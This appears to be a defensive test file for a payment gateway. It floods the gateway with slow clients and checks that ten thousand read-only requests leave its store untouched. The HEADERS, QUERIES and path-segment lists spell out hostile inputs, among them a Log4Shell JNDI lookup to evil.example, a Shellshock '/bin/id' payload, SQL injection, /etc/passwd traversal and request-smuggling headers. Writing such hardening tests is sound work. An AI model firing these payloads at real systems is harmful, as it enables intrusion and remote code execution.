"""A crowd of slow clients, and ten thousand requests that only look, with every hostile header there is."""
import http.client
import itertools
import json
import os
import resource
import socket
import subprocess
import unittest

from harness import WithWorld, eventually, in_parallel, is_fast, program

CLIENTS = int(os.environ.get("QUITTANCE_SLOW_CLIENTS", "15000" if is_fast() else "1500"))
LOOKS = 10_000


def tool(name):
    path = os.path.join(os.path.dirname(program()), "tests", name)
    if not os.access(path, os.X_OK):
        raise AssertionError(f"{path} is missing: build the tests beside the program that is tested")
    return path


def allow_descriptors(wanted):
    """The hard limit, raised where it is too low."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and hard < wanted:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (soft, wanted))
        except (ValueError, OSError):
            raise unittest.SkipTest(f"{wanted} open files are needed and {hard} allowed: raise `ulimit -Hn`") from None


def set_own_descriptors(count):
    resource.setrlimit(resource.RLIMIT_NOFILE, (count, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))


class SlowCrowd(WithWorld):
    """Silent clients, headers and bodies that drip, on one process."""

    @classmethod
    def setUpClass(cls):
        allow_descriptors(CLIENTS + 1000)
        set_own_descriptors(1024)  # as a shell would: the gateway takes what it may have by itself
        try:
            super().setUpClass()
        finally:
            set_own_descriptors(CLIENTS + 1000)

    def measured(self):
        world = self.world
        reference, page = world.book()
        back = world.pay_and_return(page)
        world.wait_state(reference, "paid")
        done = subprocess.run([tool("hostile_slow_crowd"), "--port", str(world.gateway.port), "--pid",
                               str(world.gateway.running.pid), "--path", "/r/" + back.rsplit("/r/", 1)[1], "--clients",
                               str(CLIENTS), "--rounds", "3" if is_fast() else "1"], capture_output=True, text=True, timeout=300)
        self.assertEqual(done.returncode, 0, done.stderr)
        print(done.stdout.strip(), end=" ", flush=True)
        return json.loads(done.stdout)

    def test_healthy_requests_keep_their_pace_while_thousands_of_slow_clients_hold_the_gateway(self):
        seen = self.measured()
        self.assertGreaterEqual(seen["clients"], CLIENTS * 0.99, "one that is shown out is back in a moment")
        self.assertEqual(seen["failed"], 0, "a healthy request was not answered")
        self.assertGreater(seen["shown_out"], CLIENTS // 100, "nobody was shown out: the deadlines do not hold")
        if is_fast():  # a sanitizer costs more than the crowd, and keeps what was freed
            # Below a millisecond it is the scheduler of a shared machine that is measured.
            allowed = 2 * max(seen["before"]["p99_us"], 1000)
            self.assertLessEqual(seen["during"]["p99_us"], allowed, seen)
            self.assertLessEqual(seen["bytes_each"], 16 * 1024, seen)


# Each fits the gate: what a router, a proxy, a cache, a framework or a log somewhere might obey.
HEADERS = [
    b"", b"X-HTTP-Method-Override: POST", b"X-HTTP-Method: DELETE", b"X-Method-Override: PUT",
    b"X-Original-URL: /attention/ack", b"X-Rewrite-URL: /attention/ack", b"X-Original-Host: evil.example",
    b"X-Forwarded-Host: evil.example", b"X-Forwarded-For: 127.0.0.1", b"X-Forwarded-For: 203.0.113.9, 127.0.0.1",
    b"X-Forwarded-Proto: https", b"X-Forwarded-Port: 65536", b"X-Forwarded-Prefix: /admin", b"X-Real-IP: 127.0.0.1",
    b"True-Client-IP: 127.0.0.1", b"X-Client-IP: ::1", b"X-Cluster-Client-IP: 127.0.0.1",
    b"Forwarded: for=127.0.0.1;host=evil.example;proto=https", b"Forwarded: for=\"[::1]\", for=_hidden",
    b"Origin: https://evil.example", b"Origin: null", b"Referer: https://evil.example/?token=1",
    b"Sec-Fetch-Site: cross-site", b"Sec-Fetch-Mode: navigate", b"Access-Control-Request-Method: DELETE",
    b"Access-Control-Request-Headers: authorization", b"Access-Control-Request-Private-Network: true",
    b"Authorization: Bearer nobody", b"Authorization: Basic YWRtaW46YWRtaW4=", b"Authorization: Bearer ",
    b"Authorization: Bearer " + b"A" * 4000, b"Authorization: Bearer ' OR 1=1 --",
    b"Authorization: AWS4-HMAC-SHA256 Credential=x", b"Proxy-Authorization: Basic eDp5", b"Cookie: session=admin; role=owner",
    b"Cookie: " + b"a=b; " * 800, b"Cookie: __Host-x=\x80\xff", b"Idempotency-Key: one", b"Idempotency-Key: " + b"k" * 3000,
    b"Stripe-Signature: t=1,v1=00", b"Stripe-Signature: t=99999999999999999999,v1=" + b"f" * 64,
    b"Content-Type: application/json", b"Content-Type: application/x-www-form-urlencoded", b"Content-Length: 0",
    b"Content-Encoding: gzip", b"Content-Range: bytes 0-1/2", b"Range: bytes=0-0", b"Range: bytes=0-1,2-3,4-5,0-",
    b"If-Match: *", b"If-None-Match: *", b"If-Modified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
    b"If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT", b"If-Range: x", b"Cache-Control: no-cache, max-stale",
    b"Pragma: x-cache-purge", b"X-Cache-Purge: 1", b"Surrogate-Control: x", b"Max-Forwards: 0", b"Via: 1.1 evil",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
    b"Connection: Authorization, Host", b"TE: trailers, deflate", b"Trailer: Content-Length", b"Accept: ../../etc/passwd",
    b"Accept: application/xml;q=9e99", b"Accept-Language: {{7*7}}", b"Accept-Language: " + b"de," * 1000,
    b"Accept-Encoding: gzip;q=0.000000001", b"Accept-Charset: utf-7", b"User-Agent: ${jndi:ldap://evil.example/a}",
    b"User-Agent: () { :;}; /bin/id", b"User-Agent: Slackbot-LinkExpanding 1.0", b"User-Agent: " + b"x" * 3000,
    b"User-Agent: \xf0\x9f\x92\xb8 %n%n%n <script>", b"Purpose: prefetch", b"Sec-Purpose: prefetch;prerender", b"X-Moz: prefetch",
    b"X-Request-Id: 1\x09forged", b"Traceparent: 00-0-0-00", b"DNT: 1", b"Early-Data: 1", b"Expect-CT: x", b"Priority: u=9",
    b"Alt-Used: evil.example", b"Warning: 199 - \"x\"", b"From: a@b\tc@d", b"Destination: /r/x", b"Depth: infinity",
    b"SOAPAction: \"x\"", b"X-Requested-With: XMLHttpRequest", b"X-CSRF-Token: 1", b"X-Api-Version: ../../", b"Debug: 1",
    b"X-Debug-Token: 1", b"X-Forwarded-User: owner", b"Remote-User: owner", b"X-SSL-Client-Verify: SUCCESS",
    # These do not pass it: the connection goes, and nothing else.
    b"Transfer-Encoding: chunked", b"Content-Length: 5", b"Content_Length: 0", b"X-A : b", b"Expect: magic", b"Host: evil.example",
]
QUERIES = [b"", b"?_method=POST", b"?method=DELETE&confirm=1", b"?amount=1&currency=JPY", b"?ref=%00", b"?ref=%ff", b"?" + b"a&" * 700,
           b"?success_url=https://evil.example/&session_id=cs_1", b"?client=*&booking=*&entry=*", b"?<script>", b"?source=cal.com&uid="]


class OnlyLooking(WithWorld):
    """GET, HEAD and OPTIONS over every route."""

    # Written by the questions of the operator's own probe, and by the reading of the event list.
    aside = {"q:{s00}:probe", "q:cursor"}
    digest_of_all = """local all = redis.call('KEYS', '*')
        local told = {}
        for _, key in ipairs(all) do
            told[#told + 1] = key
            told[#told + 1] = redis.sha1hex(redis.call('DUMP', key))
        end
        return told"""

    def digest(self):
        told = self.world.store("EVAL", self.digest_of_all, "0")
        return {key: value for key, value in zip(told[::2], told[1::2]) if key not in self.aside}

    def routes(self):
        listed = subprocess.run([tool("hostile_routes")], check=True, capture_output=True, text=True).stdout.splitlines()
        found = [line.split(" ") for line in listed]
        self.assertGreaterEqual(len(found), 15)
        for known in (["public", "GET", "/pay/{}"], ["public", "POST", "/webhooks/stripe"], ["admin", "POST", "/attention/ack"]):
            self.assertIn(known, found)
        return sorted({(listener, pattern) for listener, _, pattern in found})

    def segments(self):
        world = self.world
        reference, page = world.book(email="looked-at@client.example")
        address = world.pay_and_return(page).rsplit("/r/", 1)[1]
        told = world.wait_state(reference, "paid")
        signed = world.command("link", "--offer", "coaching-60", "--ref", "only-looked-at").stdout.strip().rsplit("/l/", 1)[1]
        world.secrets.add(signed)
        return [one.encode() for one in (
            address, address[:-1] + ("A" if address[-1] != "A" else "B"), address.rsplit(".", 1)[0] + ".", told["client"], reference,
            told["booking"], signed, signed[:-1], "coaching-60", "none", "..%2f..%2fetc%2fpasswd", "%2e%2e", "a%00b", "%c0%af", "*",
            "%7b%7d", "q:%7bs00%7d:*", "%22%3e%3cscript%3e", "x" * 1500, "%f0%9f%92%b8")]

    def targets(self):
        """(listener, path, may it be asked by GET): a booking link that works is not looked at but used."""
        segments = self.segments()
        signed = segments[6]
        for listener, pattern in self.routes():
            for one in segments if "{}" in pattern else [b""]:
                path = pattern.encode().replace(b"{}", one)
                yield listener, path, path not in (b"/pay/coaching-60", b"/l/" + signed)

    def requests(self):
        targets = list(self.targets())
        rounds = itertools.cycle(HEADERS)
        queries = itertools.cycle(QUERIES)
        made = 0
        while made < LOOKS:
            for listener, path, by_get in targets:
                for method in (b"GET", b"HEAD", b"OPTIONS"):
                    if method != b"GET" or by_get:
                        yield listener, method, path + next(queries), next(rounds)
                        made += 1
            next(rounds)  # so that every path meets every header in time

    def look(self, share):
        world = self.world
        wires, statuses = {}, {}
        for listener, method, target, header in share:
            if listener not in wires:
                port = world.gateway.port if listener == "public" else world.gateway.admin_port
                wires[listener] = socket.create_connection(("127.0.0.1", port), timeout=60)
            wire = wires[listener]
            wire.sendall(method + b" " + target + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n" + (header + b"\r\n" if header else b"") + b"\r\n")
            reply = http.client.HTTPResponse(wire, method=method.decode())
            reply.begin()
            reply.read()
            statuses[reply.status] = statuses.get(reply.status, 0) + 1
            if reply.getheader("Connection") == "close":
                wire.close()
                del wires[listener]
        for wire in wires.values():
            wire.close()
        return statuses

    def settled(self):
        """The digest once nothing of what was done before is under way any more."""
        def same():
            first = self.digest()
            return first if self.digest() == first and not [key for key in first if key.endswith((":ex", ":e"))] else None
        return eventually(same, "the store is at rest", pause=0.5)

    def test_ten_thousand_looks_with_hostile_headers_change_no_byte_of_the_store(self):
        requests = list(self.requests())
        self.assertGreaterEqual(len(requests), LOOKS)
        before = self.settled()
        self.assertGreater(len(before), 3)
        seen = {}
        for statuses in in_parallel(self.look, [requests[i::4] for i in range(4)], 4):
            for status, count in statuses.items():
                seen[status] = seen.get(status, 0) + count
        print(dict(sorted(seen.items())), end=" ", flush=True)
        self.assertEqual(sum(seen.values()), len(requests))
        self.assertEqual([status for status in seen if status in (500, 502, 504)], [])
        self.assertTrue({200, 404, 405, 400} <= set(seen), seen)
        self.assertEqual(self.digest(), before)
        self.assertTrue(self.world.gateway.alive)
